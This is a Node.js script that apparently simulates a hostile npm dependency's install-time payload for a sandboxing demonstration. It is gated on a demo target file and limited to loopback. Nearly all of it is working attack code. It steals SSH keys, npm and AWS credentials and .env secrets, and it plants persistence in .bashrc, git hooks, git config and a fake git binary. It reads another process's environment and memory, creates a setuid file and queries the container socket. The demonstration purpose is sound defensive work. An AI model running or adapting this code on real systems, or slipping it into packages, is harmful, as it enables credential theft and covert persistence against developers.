'use strict';
// What a hostile dependency does while it is being installed.
//
// Harmless by construction: it does nothing unless `make demo` left a target
// file two directories up, touches only what that file names (a home made for
// the demonstration and one bystander process), never leaves the loopback and
// gives up on every attempt after a second. What it reads goes into loot.json:
// the demonstration looks there for the secrets it planted.

const fs = require('fs');
const net = require('net');
const path = require('path');
const { spawn, spawnSync } = require('child_process');

const tree = path.resolve(__dirname, '..', '..');
const targetFile = path.join(tree, 'demo-target.json');
const results = {};

function attempt(name, action) {
  try {
    const loot = action();
    results[name] = { loot: loot === undefined ? null : String(loot).slice(0, 4096), error: null };
  } catch (error) {
    results[name] = { loot: null, error: error.code || error.message };
  }
}

function readSecrets(home) {
  attempt('ssh_key', () => fs.readFileSync(path.join(home, '.ssh/id_ed25519'), 'utf8'));
  attempt('npm_token', () => fs.readFileSync(path.join(home, '.npmrc'), 'utf8'));
  attempt('cloud_key', () => fs.readFileSync(path.join(home, '.aws/credentials'), 'utf8'));
  attempt('dotenv', () => fs.readFileSync(path.join(tree, '.env'), 'utf8'));
  attempt('home_listing', () => fs.readdirSync(home).join(' '));
  attempt('env_secret', () => {
    if (!process.env.AWS_SECRET_ACCESS_KEY) throw new Error('not set');
    return process.env.AWS_SECRET_ACCESS_KEY;
  });
}

function stay(home) {
  attempt('shell_startup', () => fs.appendFileSync(path.join(home, '.bashrc'), '\necho owned # colour-helper\n'));
  attempt('git_hook', () => {
    const hook = path.join(tree, '.git/hooks/pre-commit');
    fs.writeFileSync(hook, '#!/bin/sh\necho owned # colour-helper\n', { mode: 0o755 });
  });
  attempt('git_config', () => fs.appendFileSync(path.join(tree, '.git/config'), '[core]\n\tfsmonitor = echo owned\n'));
  attempt('planted_program', () => {
    fs.mkdirSync(path.join(home, '.local/bin'), { recursive: true });
    fs.writeFileSync(path.join(home, '.local/bin/git'), '#!/bin/sh\necho owned\n', { mode: 0o755 });
  });
  attempt('write_outside', () => fs.writeFileSync(path.join(home, 'owned.txt'), 'colour-helper'));
  attempt('daemon', () => {
    const beat = path.join(tree, 'heartbeat');
    const code = `const fs=require('fs');let n=0;const t=setInterval(()=>{fs.writeFileSync(${JSON.stringify(beat)},String(Date.now()));if(++n>300)clearInterval(t)},100)`;
    const child = spawn(process.execPath, ['-e', code], { detached: true, stdio: 'ignore' });
    child.unref();
    return child.pid;
  });
}

function touchProcesses(pid) {
  attempt('init_environ', () => `${fs.readFileSync('/proc/1/environ').length} bytes`);
  attempt('process_listing', () => fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').replace(/\0/g, ' '));
  attempt('process_environ', () => fs.readFileSync(`/proc/${pid}/environ`, 'utf8').replace(/\0/g, ' '));
  attempt('process_memory', () => {
    const map = fs.readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n').find((line) => line.includes('[stack]'));
    const memory = fs.openSync(`/proc/${pid}/mem`, 'r');
    const [start, end] = map.split(' ')[0].split('-').map((text) => parseInt(text, 16));
    const buffer = Buffer.alloc(16384);
    fs.readSync(memory, buffer, 0, buffer.length, end - buffer.length);
    if (start > end) throw new Error('bad map');
    return buffer.toString('latin1').replace(/[^ -~]+/g, ' ');
  });
  attempt('kill_process', () => process.kill(pid, 'SIGTERM'));
}

function systemSurface() {
  attempt('setuid_file', () => {
    const file = path.join(tree, 'setuid-copy');
    fs.writeFileSync(file, '#!/bin/sh\n');
    fs.chmodSync(file, 0o4755);
  });
  attempt('new_namespace', () => {
    const run = spawnSync('unshare', ['--user', '--map-root-user', 'true'], { timeout: 1000, encoding: 'utf8' });
    if (run.error) throw run.error;
    if (run.status !== 0) throw new Error(/denied|permitted/i.test(run.stderr) ? 'EPERM' : (run.stderr.trim().split(':').pop().trim() || 'failed'));
  });
}

function connect(name, address) {
  return new Promise((resolve) => {
    const done = (loot, error) => {
      clearTimeout(timer);
      results[name] = { loot, error };
      socket.destroy();
      resolve();
    };
    const socket = net.connect({ path: address });
    const timer = setTimeout(() => done(null, 'ETIMEDOUT'), 1000);
    socket.on('data', (data) => done(data.toString(), null));
    socket.on('error', (error) => done(null, error.code));
    socket.on('connect', () => socket.write('GET /containers/json HTTP/1.0\r\n\r\n'));
  });
}

async function main() {
  if (!fs.existsSync(targetFile)) return;
  const target = JSON.parse(fs.readFileSync(targetFile, 'utf8'));
  readSecrets(target.home);
  stay(target.home);
  touchProcesses(target.bystander_pid);
  systemSurface();
  await connect('container_socket', target.container_socket);
  await connect('abstract_socket', `\0${target.abstract_socket}`);
  fs.writeFileSync(path.join(tree, 'loot.json'), JSON.stringify(results, null, 2));
}

main();
